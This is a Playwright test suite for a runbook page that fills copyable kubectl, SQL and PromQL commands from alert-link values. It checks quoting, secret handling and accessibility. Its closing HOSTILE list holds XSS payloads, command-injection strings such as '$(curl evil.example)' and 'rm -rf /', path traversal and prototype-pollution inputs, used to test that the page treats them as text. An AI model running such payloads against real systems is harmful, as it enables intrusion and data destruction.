import AxeBuilder from '@axe-core/playwright';
import { expect, test as base, type Page } from 'playwright/test';
import { fixture } from './pages.ts';

/** In the handbook made for tests. */
const test = base.extend({
  baseURL: async ({ baseURL }, use) => use(fixture(baseURL)),
});
const VALUES = 'runbooks/values/';

/** What a page did that it must not. */
let problems: string[] = [];
test.beforeEach(async ({ page, context, baseURL, javaScriptEnabled }) => {
  if (javaScriptEnabled) await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  problems = [];
  page.on('pageerror', (error) => problems.push(error.message));
  page.on('console', (message) => {
    if (message.type() === 'error') problems.push(message.text());
  });
  page.on('dialog', (dialog) => {
    problems.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(new URL(baseURL ?? '').origin)) problems.push(request.url());
  });
});
test.afterEach(() => expect(problems).toEqual([]));

const command = (page: Page, step: string) => page.locator(`#${step} .code code`);
const copy = (page: Page, step: string) => page.locator(`#${step} .tools button`).last();
const field = (page: Page, label: string) => page.getByLabel(label, { exact: true });
const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());

test.describe('the link of an alert becomes a copied command, quoted for where its values stand', () => {
  const TOPIC = `it's $(touch x) "a\\b" !`;
  const values = `namespace=checkout&topic=${encodeURIComponent(TOPIC)}`;
  for (const link of [
    `alerts/topicstuck/?${values}`,
    `alerts/TopicStuck/?${values}`,
    `alerts/topicstuck/?severity=critical&${values.replace('namespace', 'Exported_Namespace')}`,
    `alerts/topicstuck/#?${values}`,
    `alerts/topicstuck/#quoted?${values}`,
    `${VALUES}?${values}#quoted`,
  ]) {
    test(link.slice(0, 60), async ({ page }) => {
      await page.goto(link);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText('Values of every kind');
      await expect(page.locator(':target')).toHaveId('quoted');
      const button = page.locator('#quoted .tools button:last-child');
      await expect(button.first()).toHaveText(/^Check topic/);
      // What a database may read differently is refused; without it all is quoted.
      await page.getByRole('button', { name: 'All values' }).click();
      await field(page, 'Topic').fill(TOPIC.replace('\\', ''));
      await expect(button.first()).toHaveText(/^Copy/);
      const commands = [
        `psql -h checkout -c "SELECT 'it''s \\$(touch x) \\"ab\\" "'!'"'"\ngrep 'it'\\''s $(touch x) "ab" !' log`,
        `SELECT 'it''s $(touch x) "ab" !';`,
        `up{topic=~"it\\x27s \\\\$\\\\(touch x\\\\) \\x22ab\\x22 !.*"}`,
      ];
      await expect(button).toHaveCount(commands.length);
      for (const [index, wanted] of commands.entries()) {
        await button.nth(index).click();
        await expect.poll(() => clipboard(page)).toBe(wanted);
      }
    });
  }
});

test.describe('values of a link', () => {
  for (const [form, link] of [
    ['the query', '?cluster=staging-eu-1&namespace=checkout'],
    ['a query behind the fragment', '#look?cluster=staging-eu-1&namespace=checkout'],
    ['a fragment that is only a query', '#?cluster=staging-eu-1&namespace=checkout'],
    ['labels in other cases', '?Kubernetes_Cluster=staging-eu-1&EXPORTED_namespace=checkout'],
  ]) {
    test(`${form} becomes a copied command`, async ({ page, baseURL }) => {
      await page.goto(VALUES + link);
      await expect(command(page, 'look')).toHaveText(
        'kubectl --context staging-eu-1 -n checkout get pods',
      );
      await copy(page, 'look').focus();
      await page.keyboard.press('Enter');
      await expect(page.getByRole('status')).toHaveText('Copied');
      expect(await clipboard(page)).toBe('kubectl --context staging-eu-1 -n checkout get pods');
      const hash = link?.startsWith('#look') ? '#look' : '';
      await expect(page).toHaveURL(
        `${baseURL}${VALUES}?cluster=staging-eu-1&namespace=checkout${hash}`,
      );
      if (hash) await expect(page.locator(':target')).toHaveId('look');
    });
  }

  for (const empty of ['', '%3Cno+value%3E', '{{ $labels.namespace }}', '+']) {
    test(`"${empty}" is no value`, async ({ page }) => {
      await page.goto(`${VALUES}?namespace=${empty}`);
      await expect(command(page, 'look')).toContainText('-n {{namespace}} get');
      await expect(copy(page, 'look')).toHaveText(/^Needs namespace/);
      await expect(field(page, 'Namespace')).toHaveValue('');
    });
  }

  test('is shown where it is wrong, and fills nothing', async ({ page }) => {
    await page.goto(`${VALUES}?namespace=Not_It&cluster=mars&incident=7`);
    await expect(field(page, 'Namespace')).toHaveValue('Not_It');
    await expect(field(page, 'Namespace')).toHaveAccessibleDescription(/Kubernetes name/);
    await expect(field(page, 'Cluster')).toHaveValue('mars');
    await expect(field(page, 'Cluster')).toHaveAccessibleDescription(/One of: prod-eu-1/);
    await expect(command(page, 'look')).toContainText('--context {{cluster}} -n {{namespace}}');
    await expect(page).toHaveURL(/\?incident=7$/);
  });

  test('that arrives later, in a fragment, is taken too', async ({ page }) => {
    await page.goto(VALUES);
    await page.evaluate(() => (location.hash = '#delete?namespace=later'));
    await expect(command(page, 'look')).toContainText('-n later');
    await expect(page).toHaveURL(/\?cluster=prod-eu-1&namespace=later#delete$/);
  });
});

test.describe('the form', () => {
  test('changes the page and its address, which can be reloaded and shared', async ({ page }) => {
    await page.goto(`${VALUES}?severity=critical`);
    await expect(page).toHaveURL(/\?severity=critical$/);
    await field(page, 'Namespace').fill('orders');
    await expect(command(page, 'look')).toContainText('-n orders');
    await expect(copy(page, 'look')).toHaveText(/^Copy/);
    await expect(page).toHaveURL(/\?cluster=prod-eu-1&namespace=orders&severity=critical$/);
    await page.getByRole('button', { name: 'Copy link' }).click();
    await expect(page.getByRole('status')).toHaveText('Copied');
    const link = await clipboard(page);
    expect(link).toBe(page.url());
    await page.reload();
    await expect(command(page, 'look')).toContainText('-n orders');
    await page.getByRole('button', { name: 'All values' }).click();
    await expect(field(page, 'Namespace')).toHaveAccessibleDescription('from the link');
    await expect(field(page, 'Cluster')).toHaveAccessibleDescription('default');
    await page.getByRole('button', { name: 'Clear values' }).click();
    await expect(page).toHaveURL(/\?severity=critical$/);
    await expect(command(page, 'look')).toContainText('-n {{namespace}}');
  });

  test('refuses while it is typed, and says so once the field is left', async ({ page }) => {
    await page.goto(VALUES);
    await field(page, 'Namespace').pressSequentially('a_');
    await expect(command(page, 'look')).toContainText('{{namespace}}');
    await expect(field(page, 'Namespace')).toHaveAttribute('aria-invalid', 'true');
    await page.keyboard.press('Tab');
    await expect(page.getByRole('status')).toHaveText(/^A Kubernetes name/);
  });

  test('takes no secret into address, storage or a request', async ({ page, context }) => {
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url() + (request.postData() ?? '')));
    await page.goto(VALUES);
    await page.getByRole('button', { name: 'All values' }).click();
    await field(page, 'Token').fill('hush123');
    await field(page, 'Page to open').fill('https://example.com/a');
    await expect(command(page, 'secret')).toContainText('hush123');
    await expect(page).toHaveURL(/page=https/);
    await page.getByRole('button', { name: 'Copy link' }).click();
    await expect(page.getByRole('status')).toHaveText('Copied');
    const kept = await page.evaluate(() =>
      JSON.stringify([
        location.href,
        { ...localStorage },
        { ...sessionStorage },
        document.cookie,
        history.state,
      ]),
    );
    expect(kept + (await clipboard(page)) + asked.join()).not.toContain('hush123');
    await page.reload();
    await expect(command(page, 'secret')).toContainText('{{token}}');
    await page.goto(`${VALUES}?token=hush123&TOKEN=hush123`);
    await expect(page).not.toHaveURL(/hush/);
    await expect(command(page, 'secret')).toContainText('{{token}}');
  });

  test('goes back to what it was', async ({ page }) => {
    await page.goto(VALUES);
    await field(page, 'Namespace').fill('orders');
    await expect(page).toHaveURL(/namespace=orders/);
    await page.goto('runbooks/queue/');
    await page.goBack();
    await expect(command(page, 'look')).toContainText('-n orders');
    await expect(field(page, 'Namespace')).toHaveValue('orders');
  });

  test('leaves the first step in sight on a phone where nothing is missing', async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto(`${VALUES}?namespace=checkout&topic=orders.created`);
    await expect(field(page, 'Namespace')).toBeHidden();
    await expect(page.locator('.values')).toContainText('namespace checkout');
    await expect(page.locator('.values')).toContainText('3 to fill as you go');
    await expect(page.locator('#look .code')).toBeInViewport();
    const wide = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(wide).toBe(390);
  });
});

test.describe('a command that is not whole', () => {
  test('is not copied: its button leads to what is missing', async ({ page }) => {
    await page.goto(`${VALUES}?topic=a.b`);
    await page.evaluate(() => navigator.clipboard.writeText('before'));
    await copy(page, 'read').focus();
    await expect(copy(page, 'read')).toHaveText(/^Needs partition/);
    await expect(copy(page, 'read')).toHaveAttribute('aria-disabled', 'true');
    await page.keyboard.press('Enter');
    await expect(page.getByRole('status')).toHaveText('Not copied: partition has no value yet');
    await expect(field(page, 'Partition')).toBeFocused();
    await expect(field(page, 'Partition')).toHaveAccessibleDescription(
      /needed by “Read the topic”/,
    );
    expect(await clipboard(page)).toBe('before');
    await page.keyboard.type('3');
    await expect(copy(page, 'read')).toHaveText(/^Copy/);
    await copy(page, 'read').press('Enter');
    await expect.poll(() => clipboard(page)).toBe('read a.b 3');
  });

  test('leads there from its placeholder too', async ({ page }) => {
    await page.goto(VALUES);
    await page.locator('#read .code .param').last().click();
    await expect(field(page, 'Partition')).toBeFocused();
  });
});

test.describe('a dangerous step', () => {
  const LINK = `${VALUES}?cluster=staging-eu-1&namespace=checkout&topic=a.b`;
  test('waits until its reader lets the values of the link in', async ({ page }) => {
    await page.goto(LINK);
    await expect(command(page, 'look')).toContainText('--context staging-eu-1');
    await expect(command(page, 'delete')).toHaveText(
      'delete --context {{cluster}} -n {{namespace}} {{topic}}',
    );
    const ask = page.locator('#delete .confirm');
    await expect(ask).toContainText(
      'values came from the link: cluster staging-eu-1, namespace checkout, topic a.b.',
    );
    await copy(page, 'delete').press('Enter');
    await expect(page.getByRole('status')).toHaveText(/first confirm/);
    await expect(ask.getByRole('button', { name: 'Use them here' })).toBeFocused();
    await page.keyboard.press('Enter');
    await expect(command(page, 'delete')).toHaveText(
      'delete --context staging-eu-1 -n checkout a.b',
    );
    await expect(ask).toBeFocused();
    await page.reload();
    await expect(command(page, 'delete')).toContainText('{{topic}}');
  });

  test('takes what was typed, and the defaults, at once', async ({ page }) => {
    await page.goto(`${VALUES}?topic=a.b`);
    await field(page, 'Namespace').fill('checkout');
    await expect(command(page, 'delete')).toHaveText(
      'delete --context prod-eu-1 -n checkout {{topic}}',
    );
    await page.getByRole('button', { name: 'All values' }).click();
    await field(page, 'Topic').fill('a.c');
    await expect(command(page, 'delete')).toContainText('-n checkout a.c');
    await expect(page.locator('#delete .confirm')).toBeHidden();
  });
});

test('what is typed before the page’s script is there counts', async ({ page }) => {
  let release = (): void => undefined;
  const late = new Promise<void>((resolve) => (release = resolve));
  await page.route(/\/runbook\.[^/]*\.js$/, async (route) => {
    await late;
    await route.continue();
  });
  await page.goto(`${VALUES}?topic=a.b`, { waitUntil: 'commit' });
  await field(page, 'Namespace').fill('checkout');
  release();
  await expect(command(page, 'look')).toContainText('-n checkout');
  await expect(page).toHaveURL(/namespace=checkout/);
});

test.describe('links', () => {
  test('follow the values, escaped', async ({ page, baseURL }) => {
    await page.goto(VALUES);
    const consumers = page.getByText('Consumers', { exact: true });
    await expect(consumers).not.toHaveAttribute('href');
    await field(page, 'Namespace').fill('checkout');
    await field(page, 'Topic').fill('a&b=c/#');
    await expect(consumers).toHaveAttribute(
      'href',
      'https://grafana.example/d/x?var-ns=checkout&var-cluster=prod-eu-1',
    );
    await expect(page.getByText('the logs')).toHaveAttribute(
      'href',
      'https://logs.example/checkout?q=a%26b%3Dc%2F%23',
    );
    const queue = page.getByRole('link', { name: 'the queue', exact: true });
    const path = new URL(`${baseURL}runbooks/queue/`).pathname;
    await expect(queue).toHaveAttribute('href', `${path}?ns=checkout#meaning`);
    await field(page, 'Namespace').fill('');
    await expect(consumers).not.toHaveAttribute('href');
    await expect(queue).toHaveAttribute('href', `${path}#meaning`);
  });
});

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=//evil.example onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'; rm -rf / #",
  '$(curl evil.example)',
  '`id`',
  'a\nrm -rf /',
  'a\r\nb',
  'a\u202egnp.exe',
  'a\u200bb',
  '-rf',
  '--all',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '../../admin',
  '{{constructor}}',
  '__proto__',
  '\u0000',
  'x'.repeat(10_000),
];
for (const hostile of HOSTILE) {
  test(`hostile: ${JSON.stringify(hostile).slice(0, 45)} is nothing but text`, async ({ page }) => {
    await page.addInitScript(() => {
      const seen: string[] = [];
      Object.assign(window, { violations: seen });
      document.addEventListener('securitypolicyviolation', (event) =>
        seen.push(event.violatedDirective),
      );
    });
    const value = encodeURIComponent(hostile);
    const query = ['cluster', 'namespace', 'topic', 'partition', 'page', hostile].map(
      (key) => `${encodeURIComponent(key)}=${value}`,
    );
    // The longest goes behind the fragment as a whole: no server takes it.
    const split = hostile.length > 1000 ? 0 : 4;
    const search = query.slice(0, split).join('&');
    await page.goto(`${VALUES}?${search}#look?${query.slice(split).join('&')}`);
    await expect(copy(page, 'look')).toBeVisible();
    await page.getByRole('button', { name: 'All values' }).click();
    for (const mark of await page.locator('.code .param').all()) {
      expect(await mark.locator('script, img, svg').count()).toBe(0);
    }
    await expect(command(page, 'delete')).toContainText('{{topic}}');
    const shown = (await page.locator('.code').allTextContents()).join('\n');
    // In quotes, "rm -rf" is a topic like any other.
    expect(shown).not.toMatch(/\n\s*rm -rf|[\u202e\u200b\u0000]|x{1001}|[^m] -rf| --all/);
    const hosts = await page
      .locator('a[data-url][href]')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).host));
    expect(hosts.length).toBeGreaterThan(0);
    const own = new URL(page.url()).host;
    for (const host of hosts) expect(['grafana.example', 'logs.example', own]).toContain(host);
    expect(
      await page.evaluate(() => (window as unknown as { violations: string[] }).violations),
    ).toEqual([]);
  });
}

for (const colorScheme of ['light', 'dark'] as const) {
  test(`meets WCAG 2.2 AA in the ${colorScheme} scheme, open and with problems`, async ({
    page,
  }) => {
    await page.emulateMedia({ colorScheme });
    await page.goto(`${VALUES}?cluster=mars&namespace=checkout&topic=a.b`);
    await page.getByRole('button', { name: 'All values' }).click();
    const { violations } = await new AxeBuilder({ page })
      .withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'])
      .analyze();
    expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`)).toEqual([]);
  });
}

test('on paper commands are filled, and the values are a table', async ({ page }) => {
  await page.goto(`${VALUES}?namespace=checkout`);
  await expect(command(page, 'look')).toContainText('checkout');
  await page.emulateMedia({ media: 'print' });
  await expect(command(page, 'look')).toContainText('-n checkout');
  await expect(page.locator('.values dl')).toHaveCSS('display', 'table');
  await expect(page.locator('.values')).toContainText('namespace');
  await expect(page.locator('.values :is(input, select, button):visible')).toHaveCount(0);
  await expect(page.locator('.values dl')).not.toContainText('token');
});

test('on paper a link shows where it leads', async ({ page }) => {
  await page.goto(`${VALUES}?namespace=checkout&topic=orders`);
  const link = page.getByRole('link', { name: 'the logs' });
  const shown = () =>
    link.evaluate((element) => getComputedStyle(element, '::after').content.replaceAll('"', ''));
  expect(await shown()).toBe('none');
  await page.emulateMedia({ media: 'print' });
  expect(await shown()).toContain((await link.getAttribute('href')) ?? '');
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });
  test('the page reads as it is, with its table of values', async ({ page }) => {
    await page.goto(`${VALUES}?namespace=checkout`);
    await expect(page.locator('.values')).toBeHidden();
    await expect(command(page, 'look')).toContainText('-n {{namespace}}');
    await expect(page.getByRole('heading', { name: 'Values in the commands' })).toBeVisible();
    await expect(page.getByRole('link', { name: 'the queue', exact: true })).toHaveAttribute(
      'href',
      /#meaning$/,
    );
    await expect(page.getByRole('link', { name: 'Cluster' })).toHaveAttribute(
      'href',
      'https://grafana.example/c/prod-eu-1',
    );
  });
});
